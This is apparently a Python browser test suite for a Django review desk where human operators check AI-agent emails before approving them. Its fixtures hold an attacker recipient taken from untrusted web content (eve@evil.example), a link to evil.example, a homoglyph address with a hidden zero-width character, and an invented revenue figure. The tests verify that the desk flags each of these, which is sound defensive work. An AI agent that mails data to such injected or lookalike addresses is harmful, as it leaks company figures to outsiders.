"""What will happen, in a real browser: marks, links to steps, whole before approve."""

from __future__ import annotations

from typing import Any

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import Browser, Page

from reviews.models import Review
from runs.models import Agent, Run
from runs.states import StepKind
from tests.browser.visit import NARROW, WIDE, barriers, sideways, visit
from tests.support import factory
from tests.support.project import LiveProject

pytestmark = pytest.mark.browser

TASK = "Mail the revenue of Q3 2024 to analytics@company.com."
BODY = (
    "## Q3 2024 revenue\n\n| Month | Revenue | Growth |\n|---|--:|--:|\n"
    "| August | 1,380,000 | |\n| September | 1,895,000 | **+37.3 %** |\n\n"
    "Quarter total: 4,525,000, see [the report](https://evil.example/a). Write to"
    " an\u0430lytics@company.com\u200b.\n"
)


def a_mail(body: str = BODY, to: str = "analytics@company.com") -> Review:
    """A parked mail: two months read in step 1, growth in step 2, a page in step 3."""
    run = factory.make_run(
        Agent.objects.get(slug="quarterly-metrics"),
        User.objects.get(username="submitter"),
        task=TASK,
    )
    rows = {"columns": ["month", "revenue"], "rows": [["a", 1380000], ["b", 1895000]]}
    _result(run, "query_database", rows)
    _result(run, "calculate", {"value": "37.318840579710144928"})
    _result(run, "http_request", {"body": "eve@evil.example"}, untrusted=True)
    arguments = {"to": [to], "subject": "Q3 2024", "body_markdown": body}
    call = factory.make_call(
        run, arguments, tool="send_email", title=f"Send e-mail to {to}"
    )
    return factory.park(run, call=call)


def _result(run: Run, name: str, result: Any, *, untrusted: bool = False) -> None:
    response = {"result": result, "text": "", "is_error": False, "untrusted": untrusted}
    request = {"call_id": name, "arguments": {}}
    factory.add_step(run, StepKind.TOOL, name=name, request=request, response=response)


@pytest.mark.parametrize(("size", "theme"), [(WIDE, "light"), (NARROW, "dark")])
def test_every_value_is_marked_and_says_so_in_words(
    chromium: Browser, desk: LiveProject, size: Any, theme: Any
) -> None:
    review = a_mail()

    with visit(chromium, desk, "operator", size=size, theme=theme) as page:
        page.goto(f"/reviews/{review.pk}/")
        _open_all(page)

        what = page.locator("section[aria-labelledby=what]")
        assert _names(what, "1,895,000") == "1,895,000 (From step 1, Query database)"
        assert "(Rounded from 37.318840579710144928" in _names(what, "+37.3 %")
        assert _names(what, "4,525,000") == "4,525,000 (Made up by the model)"
        assert "(Looks like analytics@company.com" in what.inner_text()
        assert what.get_by_text("U+200B").first.is_visible()
        assert what.get_by_text("U+0430").first.is_visible()
        assert what.get_by_text("https://evil.example/a").first.is_visible()
        assert what.get_by_text("have no source").first.is_visible()
        assert barriers(page) == []
        assert sideways(page) == 0


def _names(what: Any, text: str) -> str:
    """The first figure of that text, as it is read out."""
    figure = what.locator(".fig", has_text=text).first
    return " ".join(
        str(
            figure.evaluate(
                "(n) => [...n.childNodes].map((c) => c.ariaHidden ? '' : c.textContent).join('')"
            )
        ).split()
    )


def _open_all(page: Page) -> None:
    page.evaluate("document.querySelectorAll('details').forEach((d) => d.open = true)")


def test_a_figure_leads_to_the_step_it_comes_from(
    chromium: Browser, desk: LiveProject
) -> None:
    review = a_mail()

    with visit(chromium, desk, "operator") as page:
        page.goto(f"/reviews/{review.pk}/")
        page.get_by_role("link", name="1,895,000 (From step 1").first.click()

        assert page.url.endswith("#step-1")
        page.wait_for_function(
            "document.querySelector('#step-1').getBoundingClientRect().bottom < innerHeight"
        )


def test_an_address_from_a_web_page_is_red_and_names_the_page(
    chromium: Browser, desk: LiveProject
) -> None:
    review = a_mail(to="eve@evil.example")

    with visit(chromium, desk, "operator") as page:
        page.goto(f"/reviews/{review.pk}/")

        mark = page.locator(".prov[data-tone=bad]").first
        mark.get_by_text("From untrusted content, HTTP request, step 3").wait_for()


def test_a_long_mail_is_read_before_it_is_approved(
    chromium: Browser, desk: LiveProject
) -> None:
    words = "\n\n".join(f"Paragraph number {n} of a long mail." for n in range(120))
    review = a_mail(words)

    with visit(chromium, desk, "operator") as page:
        page.goto(f"/reviews/?item={review.pk}")
        assert page.get_by_role("button", name="Approve").count() == 0
        assert barriers(page) == []
        page.get_by_role("link", name="Read and decide").click()

        page.get_by_role("button", name="Approve").first.wait_for()
        last = page.locator("section[aria-labelledby=what] .prose p").last
        last.scroll_into_view_if_needed()
        assert last.is_visible()
        assert "Paragraph number 119" in last.inner_text()
        assert barriers(page) == []
